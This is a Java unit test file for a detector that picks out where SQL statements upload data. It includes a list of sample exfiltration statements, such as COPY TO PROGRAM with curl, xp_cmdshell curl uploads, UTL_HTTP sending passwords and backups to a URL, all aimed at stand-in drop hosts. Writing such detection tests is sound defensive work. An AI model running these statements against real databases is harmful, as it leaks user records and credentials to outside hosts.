package io.driftwarden.engine.upload;

import static org.assertj.core.api.Assertions.assertThat;

import io.driftwarden.engine.value.CanonicalValue;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class StatementUploadsTest {
    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '#',
            value = {
                "EXPORT DATA OPTIONS(uri='gs://drop-bucket/u-*.csv', format='CSV') AS SELECT * FROM users"
                        + " ~ gs://drop-bucket/u-*.csv",
                "UNLOAD ('SELECT * FROM users') TO 's3://drop-bucket/u' IAM_ROLE default ~ s3://drop-bucket/u",
                "UNLOAD (SELECT * FROM users) TO 's3://drop-bucket/u' ~ s3://drop-bucket/u",
                "COPY users TO 's3://drop-bucket/u.parquet' (FORMAT parquet) ~ s3://drop-bucket/u.parquet",
                "COPY INTO 's3://drop-bucket/u' FROM users ~ s3://drop-bucket/u",
                "COPY users TO PROGRAM 'curl -T - https://drop.example/in' ~ https://drop.example/in",
                "SELECT * FROM users INTO OUTFILE S3 's3://drop-bucket/u' ~ s3://drop-bucket/u",
                "SELECT http_post('https://drop.example/in', (SELECT json_agg(u) FROM users u)::text)"
                        + " ~ https://drop.example/in",
                "SELECT net.http_post(url := 'https://drop.example/in', body := '{}') ~ https://drop.example/in",
                "SELECT UTL_HTTP.REQUEST('https://drop.example/?d=' || password) FROM users ~ https://drop.example/?d=",
                "SELECT dblink('host=drop.example dbname=x', 'insert into t values (1)') ~ tcp://drop.example/",
                "CREATE EXTERNAL TABLE x LOCATION 's3://drop-bucket/u' AS SELECT * FROM users ~ s3://drop-bucket/u",
                "CREATE EXTERNAL TABLE x (a int) LOCATION 's3://drop-bucket/u'; INSERT INTO x SELECT 1"
                        + " ~ s3://drop-bucket/u",
                "CREATE SUBSCRIPTION s CONNECTION 'host=drop.example user=r' PUBLICATION p ~ tcp://drop.example/",
                "INSERT INTO FUNCTION s3('https://drop.example/u.csv', 'CSV') SELECT * FROM users"
                        + " ~ https://drop.example/u.csv",
                "EXEC xp_cmdshell 'curl -T c:\\x.bak https://drop.example/in' ~ https://drop.example/in",
                "BACKUP DATABASE app TO URL = 'https://drop.example/app.bak' ~ https://drop.example/app.bak"
            })
    void whatIsPutSomewhereHasThatPlace(String sql, String place) {
        // when
        List<CanonicalValue> places = StatementUploads.mayBeIn(sql) ? StatementUploads.of(sql) : List.of();

        // then
        assertThat(places).extracting(CanonicalValue::canonical).containsOnly(place);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "COPY users FROM 's3://data-bucket/u.csv'",
                "COPY INTO users FROM 's3://data-bucket/u' FILE_FORMAT = (TYPE = CSV)",
                "COPY users TO '/tmp/u.csv' CSV",
                "LOAD DATA FROM S3 's3://data-bucket/u' INTO TABLE users",
                "SELECT * FROM read_parquet('s3://data-bucket/u.parquet')",
                "SELECT * FROM s3('https://files.example/u.csv', 'CSV')",
                "SELECT http_get('https://api.example/rates')",
                "CREATE EXTERNAL TABLE x (a int) STORED AS PARQUET LOCATION 's3://data-bucket/u'",
                "INSERT INTO links (url) VALUES ('https://files.example/x')",
                "SELECT * FROM exports WHERE url = 'https://files.example/x'",
                "SELECT 'COPY users TO s3://data-bucket'",
                "UPDATE jobs SET export = 'gs://data-bucket/x'"
            })
    void whatIsReadOrSpokenOfGoesNowhere(String sql) {
        // when
        List<CanonicalValue> places = StatementUploads.mayBeIn(sql) ? StatementUploads.of(sql) : List.of();

        // then
        assertThat(places).isEmpty();
    }
}
